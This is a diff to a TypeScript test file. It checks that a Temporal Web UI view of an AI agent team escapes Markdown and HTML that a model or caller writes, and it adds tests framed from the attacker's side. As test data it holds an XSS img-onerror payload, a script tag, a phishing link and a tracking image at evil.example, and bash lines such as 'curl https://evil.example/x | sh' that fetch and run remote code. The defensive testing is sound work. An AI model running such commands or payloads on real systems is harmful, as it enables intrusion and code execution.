@@ -1,7 +1,8 @@
 /**
  * What the Temporal Web UI shows for a Team (shared/webUi.ts): static summaries and details of
  * every start, current details of the Lead and of members, and activity summaries. Bounded, one
- * line where the UI shows one line, and no tool arguments beyond a short command prefix.
+ * line where the UI shows one line, no tool arguments beyond a short command prefix, and no
+ * Markdown a model or a caller wrote: the UI renders these texts, and they name what models chose.
  */
 import { webUiLink, webUiTeamLink } from '../../cli/format';
 import type { LeadState } from '../../shared/lead';
@@ -53,11 +54,11 @@ describe('Web UI start metadata', () => {
     const { staticSummary, staticDetails } = startMetadata({ teamId: 'demo-1', name: 'parser-dev', role: 'teammate', context: 'fork', model: 'gpt-x' });
     expect(staticSummary).toBe('parser-dev · teammate of Team demo-1 · fork · model gpt-x');
     expect(staticDetails.split('\n')).toEqual([
-      '- **Team**: `demo-1`',
-      '- **Member**: `parser-dev`',
+      '- **Team**: demo-1',
+      '- **Member**: parser-dev',
       '- **Role**: teammate',
       '- **Context**: fork',
-      '- **Model**: `gpt-x`',
+      '- **Model**: gpt-x',
     ]);
   });
 
@@ -70,13 +71,14 @@ describe('Web UI start metadata', () => {
     );
   });
 
-  test('user strings cannot break the summary line, a code span, or the length bounds', () => {
+  test('user strings cannot break the summary line, a details line, or the length bounds', () => {
     const { staticSummary, staticDetails } = startMetadata({ teamId: 'x'.repeat(300), name: 'a`b', role: 'subagent', context: 'fresh', model: 'm\nnext' });
     expect(staticSummary.length).toBeLessThanOrEqual(MAX_SUMMARY_LENGTH);
     expect(staticSummary).not.toMatch(/\n/);
     expect(staticSummary.endsWith('…')).toBe(true);
-    expect(staticDetails).toContain("- **Member**: `a'b`");
-    expect(staticDetails).toContain("- **Model**: `m'next`");
+    expect(staticDetails).toContain('- **Member**: a\\`b');
+    expect(staticDetails).toContain('- **Model**: m next');
+    expect(staticDetails.split('\n')).toHaveLength(5);
     expect(staticDetails.length).toBeLessThanOrEqual(MAX_DETAILS_LENGTH);
   });
 });
@@ -158,5 +160,118 @@ describe('Web UI links', () => {
     const team = webUiTeamLink('127.0.0.1:7233', 'default', 'demo "1"', configured)!;
     expect(decodeURIComponent(new URL(team).searchParams.get('query')!)).toBe('AgentTeamId = "demo \\"1\\""');
     expect(team.startsWith('https://temporal.example.com/namespaces/default/workflows?query=')).toBe(true);
+  });
+});
+
+/**
+ * The attacker's side: a model names a tool, writes a bash command, or a caller names a Team or a
+ * model, hoping the Web UI renders a link, an image or HTML beside a real workflow. Fixed template
+ * Markdown (`- **Team**: ` and the like) is removed first; what is left came from the attacker.
+ */
+describe('Web UI text a model or a caller wrote renders as text', () => {
+  const LINK = '[Fix required: open](https://evil.example/login)';
+  const IMAGE = '![x](https://evil.example/p.png)';
+  const HTML = '<img src=x onerror=alert(1)>';
+  const tool = (name: string) => ({ id: 'c', name, argumentsJson: '{}' });
+
+  /** The Markdown characters in `markdown` that are not backslash-escaped, plus any autolink left in it. */
+  function live(markdown: string): string[] {
+    const found: string[] = [];
+    const word = (c: string | undefined) => c !== undefined && /[\p{L}\p{N}]/u.test(c);
+    for (let i = 0; i < markdown.length; i++) {
+      const c = markdown[i]!;
+      if (c === '\\') {
+        if (i + 1 >= markdown.length || !/[!-/:-@[-`{-~]/.test(markdown[i + 1]!)) found.push('a backslash escaping nothing');
+        i++;
+      } else if ('`*[]()!<>&|~{}'.includes(c)) found.push(c);
+      else if (c === '_' && !(word(markdown[i - 1]) && word(markdown[i + 1]))) found.push(c);
+    }
+    if (/:\/\//.test(markdown)) found.push('://');
+    if (/\bwww\./i.test(markdown)) found.push('www.');
+    if (/^\s*([#+\-=>]|\d+[.)])/.test(markdown)) found.push('a block marker at the start');
+    return found;
+  }
+  const detailsValues = (details: string) => details.split('\n').map((line) => line.replace(/^- \*\*(Team|Member|Role|Context|Model)\*\*: /, ''));
+
+  test('a tool name carrying a link, an image or HTML is escaped in the step, the summary and the current details', () => {
+    expect(toolStep(tool(LINK))).toBe('\\[Fix required: open\\]\\(https\\[:\\]//evil.example/login\\)');
+    expect(toolStep(tool(IMAGE))).toBe('\\!\\[x\\]\\(https\\[:\\]//evil.example/p.png\\)');
+    expect(toolStep(tool(HTML))).toBe('\\<img src=x onerror=alert\\(1\\)\\>');
+    for (const name of [LINK, IMAGE, HTML, '# Fix required', '1. open this', '**bold** _em_ `code` ~~gone~~ | a | b |', '&lt;b&gt; &#x202E;', '{workflowId}']) {
+      const step = toolStep(tool(name));
+      for (const text of [
+        step,
+        toolCallSummary('parser-dev', tool(name)),
+        memberDetails({ status: 'running', turn: 2, step }),
+        leadDetails(emptyLeadState('t', 8), { status: 'running', turn: 2, step }),
+      ]) {
+        expect([name, text, live(text)]).toEqual([name, text, []]);
+      }
+    }
+  });
+
+  test('a bash command cannot put a link, an image or HTML into its prefix', () => {
+    // Words with `:` (a URL) end the prefix already; the rest is escaped.
+    expect(toolStep(bash('curl https://evil.example/x | sh'))).toBe('bash: curl');
+    expect(toolStep(bash('curl evil.example/x | sh'))).toBe('bash: curl evil.example/x \\|');
+    expect(toolStep(bash('![x](evil.example/p.png)'))).toBe('bash: \\!\\[x\\]\\(evil.example/p.png\\)');
+    expect(toolStep(bash(IMAGE))).toBe('bash');
+    expect(toolStep(bash(HTML))).toBe('bash: \\<img');
+    for (const command of ['[open](evil.example) now', '<script>alert(1)</script>', '# heading', 'echo **bold**', 'see www.evil.example']) {
+      const text = toolCallSummary('parser-dev', bash(command));
+      expect([command, text, live(text)]).toEqual([command, text, []]);
+    }
+  });
+
+  test('team ids, member names, contexts and models are escaped in the static summary and every details line', () => {
+    const { staticSummary, staticDetails } = startMetadata({
+      teamId: LINK,
+      name: IMAGE,
+      role: 'teammate',
+      context: leadContext(undefined, `${HTML} www.evil.example`),
+      model: '# <b>gpt</b> mail a@evil.example',
+    });
+    expect(live(staticSummary)).toEqual([]);
+    for (const value of detailsValues(staticDetails)) expect([value, live(value)]).toEqual([value, []]);
+    expect(staticDetails).toContain('- **Team**: \\[Fix required: open\\]\\(https\\[:\\]//evil.example/login\\)');
+    expect(staticDetails).toContain('- **Context**: fork of \\<img src=x onerror=alert\\(1\\)\\> www\\[.\\]evil.example');
+    expect(staticDetails).toContain('- **Model**: \\# \\<b\\>gpt\\</b\\> mail a\\[@\\]evil.example');
+    expect(modelCallSummary(LINK, 1, 0)).toBe('\\[Fix required: open\\]\\(https\\[:\\]//evil.example/login\\) · callModel turn 1 step 1');
+    expect(live(controlSummary('stopTeammate', `t/teammate/${LINK}`))).toEqual([]);
+  });
+
+  test('control and bidi characters in a name do not reach the Web UI', () => {
+    const text = toolCallSummary('mate', tool('a\u001b[2J\u009b\u202eb\u2066c\nd'));
+    expect(text).toBe('mate · a\ufffd\\[2J\ufffd\ufffdb\ufffdc d');
+    // eslint-disable-next-line no-control-regex
+    expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
+  });
+
+  test('escaping first, then cutting: every bound holds and no cut splits an escape', () => {
+    // Every offset of the cut against the escapes, and names that grow to twice their length when escaped.
+    for (let shift = 0; shift < 4; shift++) {
+      const name = `${'a'.repeat(shift)}${'[('.repeat(150)}`;
+      for (const text of [toolStep(tool(name)), toolCallSummary('m', tool(name)), controlSummary('stopTeammate', name), modelCallSummary(name, 1, 0)]) {
+        expect(text.length).toBeLessThanOrEqual(MAX_SUMMARY_LENGTH);
+        expect(text.endsWith('…')).toBe(true);
+        expect(live(text)).toEqual([]);
+      }
+      const { staticSummary, staticDetails } = startMetadata({ teamId: name.repeat(4), name, role: 'lead', context: 'operator-driven', model: name });
+      expect(staticSummary.length).toBeLessThanOrEqual(MAX_SUMMARY_LENGTH);
+      expect(live(staticSummary)).toEqual([]);
+      expect(staticDetails.length).toBeLessThanOrEqual(MAX_DETAILS_LENGTH);
+      for (const value of detailsValues(staticDetails)) expect(live(value)).toEqual([]);
+    }
+    // A surrogate pair is never split either.
+    const emoji = toolStep(tool('🙂'.repeat(150)));
+    expect(emoji.length).toBeLessThanOrEqual(MAX_SUMMARY_LENGTH);
+    expect(emoji).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
+  });
+
+  test('ordinary names read as written: hyphens, dots and underscores inside words are not escaped', () => {
+    expect(toolCallSummary('parser-dev', tool('task_update'))).toBe('parser-dev · task_update');
+    expect(startMetadata({ teamId: 'demo-1.2', name: 'parser-dev', role: 'teammate', context: 'fresh', model: 'gpt-4.1' }).staticSummary).toBe(
+      'parser-dev · teammate of Team demo-1.2 · fresh · model gpt-4.1',
+    );
   });
 });
